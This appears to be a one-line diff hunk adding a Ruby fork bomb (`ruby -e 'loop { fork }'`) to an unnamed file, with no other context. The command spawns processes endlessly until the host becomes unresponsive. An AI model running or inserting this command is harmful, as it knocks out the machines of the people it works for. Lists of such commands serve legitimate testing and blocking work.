@@ -1,0 +1,1 @@
+ruby -e 'loop { fork }'
